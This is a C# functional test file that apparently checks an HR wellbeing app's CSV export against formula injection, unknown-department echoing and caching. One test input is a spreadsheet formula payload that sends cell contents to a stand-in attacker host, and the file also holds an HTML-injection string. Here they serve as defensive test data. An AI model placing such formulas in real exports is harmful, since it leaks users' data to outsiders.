using System.Net;
using Wellbeing.Infrastructure.Persistence.Seeding;
using Wellbeing.Testing;
using Wellbeing.Web.FunctionalTests.Support;
using static Wellbeing.Web.FunctionalTests.Support.HrReading;

namespace Wellbeing.Web.FunctionalTests.Hr;

/// <summary>
/// The HR export as a spreadsheet opens it: nothing in it runs as a formula, nothing HR typed comes back, and no
/// copy is kept by a browser or a proxy.
/// </summary>
public sealed class HrExportTests(AppFixture app) : IClassFixture<AppFixture>
{
    /// <summary>The characters that make a spreadsheet cell a formula (OWASP, CSV injection).</summary>
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    /// <summary>Department names come from an HRIS import, so a hostile one is possible; the export neutralises it like any text.</summary>
    [Theory]
    [InlineData("=HYPERLINK(\"https://attacker.test/?d=\"&A1,\"Open\")")]
    [InlineData("+1")]
    [InlineData("-1+2")]
    [InlineData("@SUM(A1:A9)")]
    public async Task Export_NeutralisesEveryTextCellThatASpreadsheetWouldRunAsAFormula(string department)
    {
        var scenario = await HubScenario.CreateAsync(app.Factory, "Formula");
        await scenario.AddMembersAsync("Sales", 12, i => [i % 2 == 0 ? 40 : 80]);
        await scenario.AddMembersAsync(department, 6, i => [i % 2 == 0 ? 20 : 60]);
        await scenario.PublishAsync();
        var hr = await BrowserlessClient.SignedInAsync(app.Factory, scenario.HrEmail);

        var csv = await hr.ExportAsync(ExportPath(scenario.HubId, scenario.LastClosedMonth.Key, department));
        var rows = Rows(csv);

        Assert.Contains(rows, r => r.Scope == "'" + department);
        Assert.DoesNotContain(rows, r => r.Scope == department);
        Assert.All(rows.SelectMany(r => new[] { r.Period, r.Scope, r.Section, r.Figure, r.Value }), cell => Assert.False(
            cell.Length > 0 && FormulaStarts.Contains(cell[0]),
            $"a cell starts a formula: {cell}"));
    }

    [Theory]
    [InlineData("Nobody")]
    [InlineData("=1+1")]
    [InlineData("<em>Sales</em>")]
    public async Task ADepartmentHrDoesNotKnow_IsNotFound_AndNeverEchoed(string department)
    {
        var northwind = await app.Factory.HubIdAsync(DemoHub.Slug);
        var hr = await BrowserlessClient.SignedInAsync(app.Factory, DemoHub.HrManager);

        var export = await hr.Http.GetAsync(ExportPath(northwind, department: department));
        var (page, body) = await hr.GetAsync(PagePath(northwind, department: department));

        Assert.Equal(HttpStatusCode.NotFound, export.StatusCode);
        Assert.DoesNotContain(department, await export.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.NotFound, page);
        Assert.DoesNotContain(department, body);
    }

    [Fact]
    public async Task ExportAndApi_AreNeverStored()
    {
        var northwind = await app.Factory.HubIdAsync(DemoHub.Slug);
        var hr = await BrowserlessClient.SignedInAsync(app.Factory, DemoHub.HrManager);
        var http = app.Factory.CreateClient();
        var token = await PartnerSystem.TokenAsync(http, DemoHub.PartnerClientId, DemoHub.PartnerClientSecret);

        var export = await hr.Http.GetAsync(ExportPath(northwind));
        var api = await PartnerSystem.GetAsync(http, PartnerSystem.AggregatesPath(northwind), token);

        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        Assert.Equal(HttpStatusCode.OK, api.StatusCode);
        Assert.True(export.Headers.CacheControl?.NoStore, "the export may be stored");
        Assert.True(api.Headers.CacheControl?.NoStore, "the API's answer may be stored");
    }
}
